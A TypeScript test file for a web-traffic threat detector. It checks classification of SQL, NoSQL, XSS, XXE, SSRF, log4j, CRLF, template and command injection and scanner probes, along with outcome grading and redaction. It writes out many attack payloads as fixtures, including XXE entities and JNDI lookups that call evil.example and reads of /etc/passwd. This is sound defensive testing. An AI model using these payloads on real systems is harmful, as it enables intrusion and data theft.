import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { leastCpuMs } from '../../../test/support/least-cpu-ms.ts';
import { canonicalJson } from '../../model/json.ts';
import type { ThreatType } from '../../model/vocabulary.ts';
import { contentThreats } from './content-threats.ts';
import {
  contextOf,
  type ExampleCall,
  exampleExchange,
  SOME_HEADERS,
  shuffled,
  TINY_CAPS,
} from './example-call.test.ts';
import { redactAttack } from './sample.ts';
import {
  decodeThreats,
  emptyThreats,
  encodeThreats,
  mergeThreats,
  observeThreats,
  threatFacts,
} from './threats.ts';

const JSON_HEADERS = { ...SOME_HEADERS, 'content-type': 'application/json' };
const threatsOf = (example: ExampleCall) => contentThreats(exampleExchange(example));
const typesOf = (example: ExampleCall) => [...new Set(threatsOf(example).map((threat) => threat.type))];
const inQuery = (value: string): string => `/v1/search?q=${encodeURIComponent(value)}`;
const json = (body: unknown): ExampleCall => ({
  method: 'POST',
  headers: JSON_HEADERS,
  body: JSON.stringify(body),
});

describe('places', () => {
  it('finds the attack where it stands', () => {
    const places: readonly (readonly [string, ThreatType, ExampleCall])[] = [
      ['request.path', 'path-traversal', { target: '/files/..%2f..%2fetc/passwd' }],
      ['request.path', 'path-traversal', { target: '/v1/a/../../b' }],
      ['request.path', 'sql-injection', { target: "/v1/items/1'%20OR%20'1'='1" }],
      ['request.path', 'xss', { target: '/v1/items/%3Cscript%3Ealert(1)%3C%2Fscript%3E' }],
      ['request.query', 'ssrf', { target: '/v1/fetch?url=http%3A%2F%2F127.0.0.1%3A22' }],
      ['request.query', 'xss', { target: '/v1/a?%3Cscript%3Ealert(1)%3C/script%3E=1' }],
      [
        'request.header',
        'log4j-lookup',
        { headers: { ...SOME_HEADERS, 'x-api-version': '${jndi:ldap://evil.example/a}' } },
      ],
      ['request.header', 'log4j-lookup', { headers: { authorization: '${jndi:ldap://evil.example/a}' } }],
      ['request.header', 'command-injection', { headers: { 'user-agent': '() { :;}; /bin/id' } }],
      ['request.header', 'sql-injection', { headers: { ...SOME_HEADERS, referer: "x' or '1'='1" } }],
      ['request.cookie', 'sql-injection', { headers: { ...SOME_HEADERS, cookie: "id=1' or '1'='1; a=b" } }],
      ['request.body', 'sql-injection', json({ deep: [{ er: "' OR 1=1--" }] })],
      [
        'request.body',
        'sql-injection',
        {
          method: 'POST',
          headers: { 'content-type': 'application/x-www-form-urlencoded' },
          body: 'a=%27+or+1%3D1--',
        },
      ],
      [
        'request.body',
        'xss',
        { method: 'POST', headers: { 'content-type': 'text/plain' }, body: '<svg onload=alert(1)>' },
      ],
    ];
    for (const [place, type, example] of places) {
      const found = threatsOf(example).find((threat) => threat.type === type);
      assert.equal(found?.location, place, `${type} in ${JSON.stringify(example)}`);
    }
  });

  it('reads multipart values, file names and XML', () => {
    const part = (disposition: string, value: string): string =>
      `--b\r\nContent-Disposition: form-data; ${disposition}\r\n\r\n${value}\r\n--b--\r\n`;
    const multipart = (body: string): ExampleCall => ({
      method: 'POST',
      headers: { 'content-type': 'multipart/form-data; boundary=b' },
      body,
    });
    const xml = (body: string): ExampleCall => ({
      method: 'POST',
      headers: { 'content-type': 'application/xml' },
      body,
    });
    assert.deepEqual(typesOf(multipart(part('name="a"', "' or 1=1--"))), ['sql-injection']);
    assert.deepEqual(typesOf(multipart(part('name="f"; filename="../../../x.php"', 'x'))), [
      'path-traversal',
    ]);
    assert.deepEqual(typesOf(xml("<a><b>' or 1=1--</b></a>")), ['sql-injection']);
    assert.deepEqual(typesOf(xml('<a><![CDATA[<script>alert(1)</script>]]></a>')), ['xss']);
    assert.deepEqual(typesOf(xml('<a xmlns="http://shop.example/a">plain &amp; simple</a>')), []);
  });
});

describe('xxe', () => {
  const xml = (body: string): string[] =>
    typesOf({ method: 'POST', headers: { 'content-type': 'text/xml' }, body });
  const positives = [
    '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    '<!DOCTYPE a [<!ENTITY x SYSTEM "http://evil.example/x">]><a>&x;</a>',
    '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]><a/>',
    '<!DOCTYPE a [<!ENTITY x PUBLIC "a" "http://evil.example/">]><a>&x;</a>',
    '<!DOCTYPE a [<!entity x system "php://filter/read=x">]><a>&x;</a>',
    '<!DOCTYPE a SYSTEM "http://evil.example/x.dtd"><a/>',
    '<!DOCTYPE a SYSTEM "file:///etc/passwd"><a/>',
    '<!DOCTYPE l [<!ENTITY a "x"><!ENTITY b "&a;&a;&a;"><!ENTITY c "&b;&b;&b;">]><l>&c;</l>',
    '<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></a>',
    '<?xml version="1.0"?><!DOCTYPE a [ <!ELEMENT a ANY ><!ENTITY xxe SYSTEM "expect://id" >]><a>&xxe;</a>',
    '<!DOCTYPE a [<!ENTITY % file SYSTEM "file:///x"><!ENTITY % e "<!ENTITY y SYSTEM \'http://evil.example/%file;\'>">]><a/>',
    '<!DOCTYPE a [\n<!ENTITY x\nSYSTEM\n"file:///c:/boot.ini">]><a>&x;</a>',
    '<soap:Envelope><!DOCTYPE d [<!ENTITY x SYSTEM "ftp://evil.example/">]><soap:Body>&x;</soap:Body></soap:Envelope>',
    '<!DOCTYPE a SYSTEM "gopher://evil.example/1"><a/>',
    '<!DOCTYPE a [<!ENTITY % p "q"> %p;]><a/>',
    '<!DOCTYPE a PUBLIC "-//A//B//EN" "http://evil.example/a"><a>&send;</a>',
    '<!DOCTYPE a PUBLIC "-//OASIS//DTD X//EN" "http://192.0.2.7/a.dtd"><a/>',
    '<!DOCTYPE order SYSTEM "http://127.0.0.1/v1/order/order.dtd"><order/>',
    '<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="/etc/passwd"/></a>',
  ];
  const nearMisses = [
    '<a/>',
    '<!DOCTYPE a [<!ENTITY % draft "INCLUDE">]><a/>',
    '<!DOCTYPE cXML SYSTEM "http://xml.standard.example/schemas/cXML/1.2/cXML.dtd"><cXML/>',
    '<!DOCTYPE map PUBLIC "-//Owner/Owner Mapping DTD 3.0//EN" "http://www.owner.example/dtd/map-3.0.dtd"><map/>',
    '<!DOCTYPE html><html><body>x</body></html>',
    '<!DOCTYPE note SYSTEM "Note.dtd"><note/>',
    '<!DOCTYPE a [<!ELEMENT a (#PCDATA)>]><a>x</a>',
    '<!DOCTYPE a [<!ENTITY copy "(c)">]><a>&copy;</a>',
    '<a>&amp;&lt;&gt;</a>',
    '<a><!-- a comment --><b/></a>',
    '<a><![CDATA[plain]]></a>',
    '<include href="part.xml"/>',
    '<entity system="erp">x</entity>',
    '<a>the word ENTITY SYSTEM here</a>',
    '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg/>',
    '<a href="file.txt"/>',
    '<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body><q>1</q></s:Body></s:Envelope>',
    '<?xml version="1.0" encoding="UTF-8"?><rss version="2.0"/>',
  ];
  it('fires on entities that reach outside or explode', () => {
    for (const body of positives) assert.ok(xml(body).includes('xxe'), body);
  });
  it('stays silent on documents', () => {
    for (const body of nearMisses) assert.deepEqual(xml(body), [], body);
  });
});

describe('operators of document stores', () => {
  it('fires where a value identifies or authenticates, or the condition is always true', () => {
    for (const body of [
      { username: { $ne: null }, password: { $ne: null } },
      { email: 'a@shop.example', password: { $gt: '' } },
      { password: { $regex: '^a' } },
      { user: { $in: ['admin', 'root'] } },
      { token: { $exists: true } },
      { name: { $ne: '' } },
      { $where: 'this.password == 1' },
      { filter: { $where: 'function() { return true; }' } },
      { login: { password: { $not: { $eq: 'x' } } } },
    ]) {
      assert.ok(typesOf(json(body)).includes('nosql-injection'), JSON.stringify(body));
    }
    assert.deepEqual(typesOf({ target: '/v1/login?user=a&password[$ne]=1' }), ['nosql-injection']);
    assert.deepEqual(typesOf({ target: '/v1/login?apiUser[$exists]=true' }), ['nosql-injection']);
    const escaped = json({ pin: { $ne: 'x' } }).body?.replaceAll('$', '\\u0024') ?? '';
    assert.deepEqual(typesOf({ ...json({}), body: escaped }), ['nosql-injection']);
    assert.deepEqual(typesOf({ target: '/v1/login?login%5Bpassword%5D%5B%24regex%5D=.*' }), [
      'nosql-injection',
    ]);
  });
  it('stays silent where such names belong', () => {
    for (const body of [
      {
        $schema: 'https://json-schema.org/draft/2020-12/schema',
        $id: 'https://shop.example/a',
        $defs: { a: { $ref: '#/x' } },
      },
      { filter: { price: { $gt: 10, $lt: 20 } } },
      { where: { id: { $in: [1, 2] } } },
      { query: { status: { $ne: 'done' } } },
      { price: { $gte: 5 } },
      { $set: { name: 'x' }, $inc: { n: 1 } },
      { $type: 'Order', amount: '$5' },
      { stage: [{ $match: { a: 1 } }, { $group: { _id: '$x' } }] },
      { $filter: 'price gt 5' },
    ]) {
      assert.deepEqual(typesOf(json(body)), [], JSON.stringify(body));
    }
    assert.deepEqual(
      typesOf({ target: '/v1/items?filters[price][$gt]=10&$filter=price%20gt%205&$top=5&$select=id' }),
      [],
    );
  });
});

describe('path', () => {
  it('finds attacks that hold slashes themselves', () => {
    assert.ok(typesOf({ target: '/a/x%0dLocation:%20//evil.example/%2f..' }).includes('crlf-injection'));
    assert.deepEqual(typesOf({ target: "/a/%3Cimg/src='1'/onerror='alert(1)'/%3E" }), ['xss']);
    assert.deepEqual(
      typesOf({ target: "/a/%3C%25%20import%20os;x=os.popen('cat%20/etc/issue').read()%20%25%3E" }).includes(
        'template-injection',
      ),
      true,
    );
  });
  it('stays silent on brackets and templates of routes', () => {
    for (const target of ['/v1/%7Bid%7D/items', '/v1/a%3Cb/c', '/v1/%7B%7Bname%7D%7D/x', '/v1/Line%0AName/x'])
      assert.deepEqual(typesOf({ target }), [], target);
  });
});

describe('scanner', () => {
  it('knows tools and probe paths', () => {
    for (const target of [
      '/.env',
      '/.git/config',
      '/wp-login.php',
      '/a/phpMyAdmin/index.php',
      '/actuator/env',
      '/actuator/heapdump',
      '/server-status',
      '/vendor/phpunit/src/eval-stdin.php',
      '/.env.bak',
      '/manager/html',
      '/home/nmaplowercheck1700000000',
      '/core/actuator/jolokia',
    ]) {
      assert.deepEqual(typesOf({ target }), ['scanner'], target);
    }
    for (const agent of [
      'sqlmap/1.8.11#stable (https://sqlmap.org)',
      'Mozilla/5.0 zgrab/0.x',
      'Nuclei - Open-source project',
      'Mozilla/5.00 (Nikto/2.5.0)',
    ]) {
      assert.deepEqual(typesOf({ headers: { 'user-agent': agent } }), ['scanner'], agent);
    }
  });
  it('stays silent on clients, health checks and wells', () => {
    for (const target of [
      '/actuator/health',
      '/actuator/prometheus',
      '/v1/scanners/nessus/plugins',
      '/v1/integrations/acunetix',
      '/.well-known/openid-configuration',
      '/v1/environments',
      '/manager/reports',
      '/v1/git/config',
      '/health',
      '/v1/vendor/42',
      '/index.php',
      '/v1/console',
      '/admin',
      '/v1/solutions',
      '/owasp',
      '/v1/pmas',
      '/robots.txt',
    ]) {
      assert.deepEqual(typesOf({ target }), [], target);
    }
    for (const agent of [
      'Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0',
      'curl/8.5.0',
      'python-requests/2.32.3',
      'Go-http-client/2.0',
      'okhttp/4.12.0',
      'Apache-HttpClient/5.3 (Java/21)',
    ]) {
      assert.deepEqual(typesOf({ headers: { 'user-agent': agent } }), [], agent);
    }
  });
});

describe('outcome', () => {
  const outcomeOf = (example: ExampleCall, type: ThreatType) =>
    threatsOf(example).find((threat) => threat.type === type)?.outcome;
  const sql = inQuery("' OR 1=1--");

  it('sql: an error of the database is proof, a server error is not', () => {
    assert.equal(outcomeOf({ target: sql }, 'sql-injection'), 'attempt');
    assert.equal(
      outcomeOf({ target: sql, status: 400, responseBody: 'bad request' }, 'sql-injection'),
      'attempt',
    );
    assert.equal(outcomeOf({ target: sql, status: 500 }, 'sql-injection'), 'probable');
    assert.equal(
      outcomeOf(
        { target: sql, status: 500, responseBody: 'You have an error in your SQL syntax; check' },
        'sql-injection',
      ),
      'success',
    );
    const wait = inQuery("1; WAITFOR DELAY '0:0:5' --");
    assert.equal(outcomeOf({ target: wait, latencyMs: 5100 }, 'sql-injection'), 'probable');
    assert.equal(outcomeOf({ target: wait, latencyMs: 100 }, 'sql-injection'), 'attempt');
  });

  it('files, commands and metadata: their content is proof', () => {
    const passwd = 'root:x:0:0:root:/root:/bin/bash\n';
    assert.equal(
      outcomeOf({ target: inQuery('../../../../etc/passwd'), responseBody: passwd }, 'path-traversal'),
      'success',
    );
    assert.equal(
      outcomeOf({ target: inQuery('../../../../etc/passwd'), responseBody: '{}' }, 'path-traversal'),
      'attempt',
    );
    assert.equal(
      outcomeOf({ target: inQuery('; id -u'), responseBody: 'uid=0(root) gid=0(root)' }, 'command-injection'),
      'success',
    );
    assert.equal(
      outcomeOf(
        { target: inQuery('http://169.254.169.254/latest/'), responseBody: 'ami-id\nhostname' },
        'ssrf',
      ),
      'success',
    );
    assert.equal(
      outcomeOf({ target: '/.env', responseBody: 'DB_HOST=x\nDB_USER=y\nZ=1\n' }, 'scanner'),
      'success',
    );
    assert.equal(outcomeOf({ target: '/.env', status: 404 }, 'scanner'), 'attempt');
  });

  it('xss: only unescaped, in a page, of any status: browsers run what a refusal shows, too', () => {
    const target = inQuery('<script>alert(1)</script>');
    const html = { 'content-type': 'text/html; charset=utf-8' };
    const page = '<p>You searched <script>alert(1)</script></p>';
    assert.equal(outcomeOf({ target, responseHeaders: html, responseBody: page }, 'xss'), 'success');
    assert.equal(
      outcomeOf({ target, responseHeaders: html, responseBody: '<p>&lt;script&gt;alert(1)' }, 'xss'),
      'attempt',
    );
    assert.equal(
      outcomeOf(
        { target, responseHeaders: { 'content-type': 'application/json' }, responseBody: page },
        'xss',
      ),
      'attempt',
    );
    assert.equal(
      outcomeOf({ target, status: 400, responseHeaders: html, responseBody: page }, 'xss'),
      'success',
    );
  });

  it('templates: the result, not the expression', () => {
    const target = inQuery('{{7*7}}');
    assert.equal(outcomeOf({ target, responseBody: '<p>49</p>' }, 'template-injection'), 'success');
    assert.equal(outcomeOf({ target, responseBody: '{"price":49}' }, 'template-injection'), 'attempt');
    assert.equal(
      outcomeOf({ target, responseBody: '{"q":"{{7*7}}","n":"49"}' }, 'template-injection'),
      'attempt',
    );
    assert.equal(
      outcomeOf({ target: inQuery('{{1337*7331}}'), responseBody: 'id 9801547.' }, 'template-injection'),
      'success',
    );
  });

  it('headers: the injected one came back', () => {
    const target = inQuery('x\r\nSet-Cookie: evil=1');
    assert.equal(
      outcomeOf({ target, responseHeaders: { 'set-cookie': 'evil=1' } }, 'crlf-injection'),
      'success',
    );
    assert.equal(
      outcomeOf({ target, responseHeaders: { 'set-cookie': 'sid=2' } }, 'crlf-injection'),
      'attempt',
    );
  });

  it('operators: a session was opened', () => {
    const login = { ...json({ email: { $ne: '' }, password: { $ne: '' } }), target: '/login' };
    assert.equal(
      outcomeOf({ ...login, responseBody: '{"token":"abcdefghijkl"}' }, 'nosql-injection'),
      'success',
    );
    assert.equal(outcomeOf({ ...login, status: 401 }, 'nosql-injection'), 'attempt');
  });
});

describe('samples', () => {
  it('keep the syntax and nothing of a person', () => {
    assert.equal(redactAttack("jane.doe@shop.example' OR 1=1--", 22), "x.x@x.x' OR 1=1--");
    assert.equal(redactAttack('4111 1111 1111 1111" or ""="', 20), 'x x x x" or ""="');
    assert.equal(redactAttack('<script>alert("Ann Lee")</script>', 0), '<script>alert("x x")</script>');
    assert.equal(redactAttack('a\r\nSet-Cookie: x', 1), 'a\\r\\nSet-Cookie: x');
    assert.ok(redactAttack('Ä\ud800Ö'.repeat(999), 0).length <= 120);
  });
  it('planted persons appear in no sample, fact or encoded form', () => {
    const threats = emptyThreats();
    for (const secret of ['Liselotte', '4111111111111111', 'DE89370400440532013000', 'hunter2secret']) {
      for (const payload of [
        `${secret}' OR '${secret}'='${secret}`,
        `<img src=${secret} onerror=alert("${secret}")>`,
        `; cat /${secret}/${secret}.txt`,
        `../../../../${secret}`,
      ]) {
        for (const example of [{ target: inQuery(payload) }, json({ [secret]: payload })]) {
          const exchange = exampleExchange(example);
          observeThreats(threats, exchange, contextOf(exchange));
        }
      }
    }
    const text = canonicalJson(encodeThreats(threats)) + JSON.stringify(threatFacts(threats));
    assert.ok(threats.size >= 4);
    assert.doesNotMatch(text, /Liselotte|4111|DE89|hunter2/);
  });
});

describe('hostile input', () => {
  it('never throws and stays fast', () => {
    const nasty = [
      "'".repeat(50_000),
      '<'.repeat(50_000),
      '${'.repeat(20_000),
      '%25'.repeat(20_000),
      '('.repeat(50_000),
      "' or ".repeat(20_000),
      '\ud800\udfff\udc00',
      '../'.repeat(20_000),
      '`'.repeat(50_000),
      '{{'.repeat(20_000),
      ' on'.repeat(20_000),
      '<!ENTITY '.repeat(9000),
      'union select '.repeat(9000),
      '&lt'.repeat(20_000),
    ];
    for (const text of nasty) {
      const ms = leastCpuMs(() => {
        threatsOf({ method: 'POST', headers: { 'content-type': 'text/plain' }, body: text });
        threatsOf(json({ v: text, [text.slice(0, 100)]: 1 }));
        threatsOf({ target: `/v1/x?q=${encodeURIComponent(text.toWellFormed().slice(0, 8000))}` });
        threatsOf({ method: 'POST', headers: { 'content-type': 'text/xml' }, body: `<a>${text}</a>` });
      }, 1500);
      assert.ok(ms < 1500, `${text.slice(0, 10)}: ${ms} ms`);
    }
  });
  it('dangerous member names are names', () => {
    assert.deepEqual(
      typesOf({
        method: 'POST',
        headers: JSON_HEADERS,
        body: '{"__proto__":{"a":"x"},"constructor":{"b":"y $"}}',
      }),
      [],
    );
  });
});

describe('laws', () => {
  const payloads = [
    "' OR 1=1--",
    "1' UNION SELECT a, b FROM users--",
    '<script>alert(1)</script>',
    '{{7*7}}',
    "x' or 'y'='y",
    "admin'--",
    '${jndi:ldap://evil.example/a}',
    "' or 2=2#",
    '" or 3=3--',
    'plain',
  ];
  const mixture: ExampleCall[] = payloads.flatMap((payload, index) =>
    Array.from({ length: index + 2 }, (_, turn) => ({
      target: inQuery(`${'y'.repeat(turn % 4)}${'('.repeat(turn % 3)}${payload}`),
      address: `192.0.2.${(index * 7 + turn) % 30}`,
      status: turn % 3 === 0 ? 500 : 200,
    })),
  );
  const observed = (examples: readonly ExampleCall[]) => {
    const threats = emptyThreats();
    for (const example of examples) {
      const exchange = exampleExchange(example);
      observeThreats(threats, exchange, contextOf(exchange, TINY_CAPS));
    }
    return threats;
  };
  const whole = canonicalJson(encodeThreats(observed(mixture)));

  it('the caps are reached', () => {
    assert.ok([...observed(mixture).values()].some((tally) => tally.samples.overflowed));
  });
  it('order and split change nothing', () => {
    for (let seed = 1; seed <= 20; seed += 1) {
      const calls = shuffled(mixture, seed);
      const at = (seed * 3) % calls.length;
      const left = observed(calls.slice(0, at));
      mergeThreats(left, observed(calls.slice(at)));
      assert.equal(canonicalJson(encodeThreats(left)), whole);
    }
  });
  it('the encoded form comes back whole', () => {
    const threats = observed(mixture);
    assert.equal(canonicalJson(encodeThreats(decodeThreats(encodeThreats(threats)))), whole);
    assert.deepEqual(threatFacts(decodeThreats(encodeThreats(threats))), threatFacts(threats));
    assert.throws(() => decodeThreats({}), RangeError);
  });
});
